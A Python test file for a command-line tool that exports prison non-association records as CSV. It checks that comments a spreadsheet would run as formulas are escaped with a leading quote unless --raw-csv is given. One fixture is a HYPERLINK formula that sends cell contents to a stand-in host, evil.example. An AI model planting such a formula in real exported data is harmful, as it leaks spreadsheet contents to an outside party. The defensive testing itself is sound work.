"""CSV a spreadsheet opens safely: free text that a spreadsheet would run as a formula is
written as text, unless `--raw-csv` asks for the cells as the API gave them."""

from __future__ import annotations

import csv
import io

import pytest

from tests.cli.conftest import Cli

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturned",
]
SAFE = ["Threats made on the exercise yard", "'quoted already", "2+2 is four"]


@pytest.fixture(scope="module")
def stored(cli: Cli) -> dict[int, str]:
    """A non-association for each comment, between prisoners of the seeded data."""
    return {
        cli.api.fake.add_non_association("A1234BC", "C3456DE", comment=comment).id: comment
        for comment in FORMULAS + SAFE
    }


def comments(text: str) -> dict[int, str]:
    heading, *rows = csv.reader(io.StringIO(text, newline=""))
    column = heading.index("comment")
    return {int(row[heading.index("id")]): row[column] for row in rows}


@pytest.mark.parametrize(
    "command",
    [["export", "--all"], ["involving", "A1234BC", "--all"], ["between", "A1234BC", "C3456DE"]],
)
def test_a_formula_is_written_as_text(cli: Cli, stored: dict[int, str], command: list[str]) -> None:
    ran = cli.inline(*command, "--format", "csv")
    assert ran.status == 0, ran
    written = comments(ran.stdout)
    for number, comment in stored.items():
        expected = f"'{comment}" if comment in FORMULAS else comment
        assert written[number] == expected


def test_a_prisoners_list_and_one_record_are_neutralised_too(
    cli: Cli, stored: dict[int, str]
) -> None:
    listed = cli.inline("list", "C3456DE", "--format", "csv")
    assert listed.status == 0, listed
    heading, *rows = csv.reader(io.StringIO(listed.stdout, newline=""))
    written = {row[heading.index("id")]: row[heading.index("comment")] for row in rows}
    for number, comment in stored.items():
        assert written[str(number)] == (f"'{comment}" if comment in FORMULAS else comment)
    first = next(iter(stored))
    one = cli.inline("get", str(first), "--format", "csv")
    assert comments(one.stdout) == {first: f"'{FORMULAS[0]}"}


def test_raw_csv_writes_the_cells_as_they_came(cli: Cli, stored: dict[int, str]) -> None:
    ran = cli.inline("export", "--all", "--format", "csv", "--raw-csv")
    assert ran.status == 0, ran
    written = comments(ran.stdout)
    assert all(written[number] == comment for number, comment in stored.items())
    # As its own process too, the option given after the command's name.
    process = cli("export", "--all", "--format", "csv", "--raw-csv")
    hyperlink = FORMULAS[0].replace('"', '""')  # as CSV quotes it
    assert process.status == 0 and f'"{hyperlink}"' in process.stdout


def test_the_other_formats_are_untouched(cli: Cli, stored: dict[int, str]) -> None:
    ran = cli.inline("export", "--all", "--format", "jsonl")
    assert ran.status == 0 and all(f"'{formula}" not in ran.stdout for formula in FORMULAS)


def test_help_says_what_is_neutralised(cli: Cli) -> None:
    ran = cli.inline("export", "--help")
    assert "--raw-csv" in ran.stdout and "formula" in ran.stdout
    top = cli.inline("--help")
    assert "--raw-csv" in top.stdout
